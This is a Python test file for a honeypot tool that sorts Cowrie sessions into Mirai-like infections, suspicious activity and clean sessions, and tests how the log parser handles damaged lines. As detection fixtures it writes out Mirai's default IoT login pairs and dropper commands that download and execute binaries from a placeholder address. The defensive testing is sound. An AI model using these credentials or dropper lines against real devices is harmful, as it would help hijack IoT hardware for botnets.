"""Session rules on hand-written Cowrie events, the credential table, and damaged lines."""

from __future__ import annotations

import gzip
import json
from pathlib import Path

import pytest
from cowrie_lines import BOT, CowrieLog

from iotnotice.honeypot import (
    Verdict,
    check,
    iot_default,
    judge,
    mirai_credentials,
    parse_cowrie_file,
)
from iotnotice.honeypot.rules import split_commands

SHA = "a" * 64


def _judge(log: CowrieLog, tmp_path: Path) -> Verdict:
    parse = parse_cowrie_file(log.write(tmp_path / "cowrie.json"))
    assert parse.bad_lines == 0 and parse.error is None
    (session,) = parse.sessions.values()
    return judge(session.logins, session.commands, session.downloads)


def test_credential_table_is_mirais() -> None:
    """The shipped table has Mirai's 62 pairs (total weight 152), with the two corrected entries."""
    table = mirai_credentials()
    assert sum(c.weight for c in table.values()) == 152 - 1  # guest/12345 is listed twice
    assert len(table) == 61
    assert iot_default("root", "xc3511") is not None and iot_default("root", "xc3511").index == 1
    assert iot_default("Administrator", "meinsm") is not None
    assert iot_default("admin", "4321") is not None
    assert iot_default("root", "") is not None
    assert iot_default("root", "hunter2") is None
    assert iot_default(None, "xc3511") is None
    assert check() == []


def test_default_login_and_busybox_token_is_infected(tmp_path: Path) -> None:
    """Mirai's table login followed by /bin/busybox MIRAI is infected at 0.99 with the token."""
    log = CowrieLog().connect().login("root", "vizxv").cmd("enable", "/bin/busybox MIRAI").close()
    v = _judge(log, tmp_path)
    assert (v.verdict, v.confidence, v.family, v.variant) == ("infected", 0.99, "mirai", "MIRAI")
    assert any("root/vizxv" in r for r in v.reasons)


def test_variant_token_is_kept_as_hint(tmp_path: Path) -> None:
    """A variant's own probe word (ECCHI) becomes the variant hint."""
    log = (
        CowrieLog().login("admin", "admin").cmd("/bin/busybox cat /proc/mounts; /bin/busybox ECCHI")
    )
    v = _judge(log, tmp_path)
    assert (v.verdict, v.variant) == ("infected", "ECCHI")


def test_token_with_other_credentials(tmp_path: Path) -> None:
    """The probe token alone (credentials outside the table) is infected at 0.90."""
    log = CowrieLog().login("root", "S3cure!pass").cmd("/bin/busybox SATORI")
    v = _judge(log, tmp_path)
    assert (v.verdict, v.confidence, v.variant) == ("infected", 0.90, "SATORI")


def test_escape_sequence_with_default_login(tmp_path: Path) -> None:
    """enable/system/shell/sh after a table login is infected at 0.97, family mirai."""
    log = CowrieLog().login("support", "support").cmd("enable", "system", "shell", "sh")
    v = _judge(log, tmp_path)
    assert (v.verdict, v.confidence, v.family, v.variant) == ("infected", 0.97, "mirai", None)


def test_two_escapes_are_not_a_sequence(tmp_path: Path) -> None:
    """Fewer than three of Mirai's escapes, with other credentials, stays clean."""
    log = CowrieLog().login("bob", "not-in-table").cmd("enable", "sh", "ls")
    assert _judge(log, tmp_path).verdict == "clean"


def test_file_download_dropper(tmp_path: Path) -> None:
    """A table login plus a file download is infected at 0.95 with URL and hash kept."""
    log = (
        CowrieLog()
        .login("root", "xc3511")
        .cmd("cd /tmp")
        .download("http://192.0.2.9/bins/x.mips", SHA)
    )
    parse = parse_cowrie_file(log.write(tmp_path / "cowrie.json"))
    (session,) = parse.sessions.values()
    assert session.downloads[0]["url"] == "http://192.0.2.9/bins/x.mips"
    assert session.downloads[0]["shasum"] == SHA
    v = judge(session.logins, session.commands, session.downloads)
    assert (v.verdict, v.confidence, v.family) == ("infected", 0.95, "iot-unknown")


def test_stdin_download_without_url(tmp_path: Path) -> None:
    """A download event without URL (stdin Cowrie saved) is still a dropper, named 'stdin'."""
    log = CowrieLog().login("root", "xc3511")
    log.event("cowrie.session.file_download", shasum=SHA, outfile=f"dl/{SHA}")
    v = _judge(log, tmp_path)
    assert (v.verdict, v.confidence) == ("infected", 0.95)
    (session,) = parse_cowrie_file(tmp_path / "cowrie.json").sessions.values()
    assert session.downloads[0]["url"] == "stdin"


@pytest.mark.parametrize(
    "line",
    [
        "/bin/busybox tftp -g -r mirai.arm -l .t 192.0.2.9",
        "cd /tmp && curl -O http://192.0.2.9/m.sh",
        "busybox wget http://192.0.2.9/m -O- > .d; chmod +x .d; ./.d",
        "ftpget 192.0.2.9 .f m",
        'echo -ne "\\x7f\\x45\\x4c\\x46\\x01\\x01\\x01" > .s; chmod 777 .s',
    ],
)
def test_dropper_commands(tmp_path: Path, line: str) -> None:
    """wget, curl, tftp, ftpget (also through busybox) and echo-an-ELF lines are droppers."""
    v = _judge(CowrieLog().login("admin", "1234").cmd(line), tmp_path)
    assert (v.verdict, v.confidence) == ("infected", 0.95)


def test_escapes_and_dropper_with_other_credentials(tmp_path: Path) -> None:
    """Escapes plus a dropper under credentials outside the table is infected at 0.85."""
    log = CowrieLog().login("pi", "raspberry").cmd("enable", "system", "shell", "wget http://x/y")
    v = _judge(log, tmp_path)
    assert (v.verdict, v.confidence, v.family) == ("infected", 0.85, "mirai")


def test_partial_evidence_is_suspicious(tmp_path: Path) -> None:
    """A table login with nothing Mirai-like afterwards is only suspicious (0.60)."""
    v = _judge(CowrieLog().login("root", "12345").cmd("uname -a"), tmp_path)
    assert (v.verdict, v.confidence, v.family) == ("suspicious", 0.60, "iot-unknown")


def test_failed_default_logins(tmp_path: Path) -> None:
    """Only failed logins, all from the table, are suspicious; a mixed brute force is clean."""
    table_only = CowrieLog().login("root", "admin", ok=False).login("admin", "admin", ok=False)
    assert (_judge(table_only, tmp_path).verdict, _judge(table_only, tmp_path).confidence) == (
        "suspicious",
        0.40,
    )
    mixed = CowrieLog().login("root", "admin", ok=False).login("oracle", "oracle", ok=False)
    assert _judge(mixed, tmp_path).verdict == "clean"


def test_ordinary_session_is_clean(tmp_path: Path) -> None:
    """A person's login and ordinary commands (including busybox applets) are clean."""
    log = CowrieLog().login("alice", "Correct-Horse-42")
    log.cmd("ls -la", "/bin/busybox cat /etc/passwd", "echo -ne 'hello\\n' > notes")
    v = _judge(log, tmp_path)
    assert (v.verdict, v.confidence, v.family, v.variant) == ("clean", 0.0, None, None)


def test_split_commands() -> None:
    """Input lines split at ; && || | and newlines into word lists."""
    assert split_commands("cd /tmp; wget a && chmod 777 b || ./b | sh\nexit") == [
        ["cd", "/tmp"],
        ["wget", "a"],
        ["chmod", "777", "b"],
        ["./b"],
        ["sh"],
        ["exit"],
    ]


def test_damaged_lines_are_counted_with_line_numbers(tmp_path: Path) -> None:
    """Garbage, non-objects, missing fields, bad times and addresses are skipped and located."""
    log = CowrieLog().connect().login("root", "xc3511").cmd("/bin/busybox MIRAI")
    base = {"eventid": "cowrie.command.input", "session": "s9", "input": "x"}
    extra = [
        '{"eventid": "cowrie.login.success", "sess',  # line 4: truncated write
        "[1, 2, 3]",  # line 5
        json.dumps({**base, "timestamp": "2026-11-25T10:00:00Z"}),  # line 6: no src_ip
        json.dumps({**base, "src_ip": BOT, "timestamp": "yesterday"}),  # line 7
        json.dumps({**base, "src_ip": "not-an-ip", "timestamp": "2026-11-25T10:00:00Z"}),  # 8
        json.dumps({**base, "session": "z" * 65, "src_ip": BOT, "timestamp": 0}),  # line 9
        "",  # line 10: blank lines are not damage
        json.dumps({"eventid": "cowrie.session.connect", "timestamp": 1764064800.5}),  # 11
    ]
    path = log.write(tmp_path / "cowrie.json", extra)
    with path.open("ab") as fh:
        fh.write(b'{"eventid": "\xff\xfe"}\n')  # line 12: not UTF-8
    parse = parse_cowrie_file(path)
    assert (parse.lines, parse.events, parse.ignored, parse.bad_lines) == (12, 3, 1, 7)
    assert [e.split(": ")[0] for e in parse.errors] == [f"{path}:{n}" for n in (4, 5, 6, 7, 8)]
    assert "not JSON" in parse.errors[0] and "src_ip" in parse.errors[2]
    (session,) = parse.sessions.values()
    assert session.src_ip == BOT and session.dst_port == 2223


def test_gzip_and_unreadable_files(tmp_path: Path) -> None:
    """A gzipped rotated log parses like a plain one; a missing file sets one error line."""
    log = CowrieLog().login("root", "xc3511").cmd("/bin/busybox MIRAI")
    gz = tmp_path / "cowrie.json.2026-11-24.gz"
    gz.write_bytes(gzip.compress(("\n".join(log.lines) + "\n").encode()))
    parse = parse_cowrie_file(gz)
    assert (parse.events, parse.bad_lines, len(parse.sessions)) == (2, 0, 1)
    missing = parse_cowrie_file(tmp_path / "absent.json")
    assert missing.error is not None and "absent.json" in missing.error
    assert "No such file" in missing.error
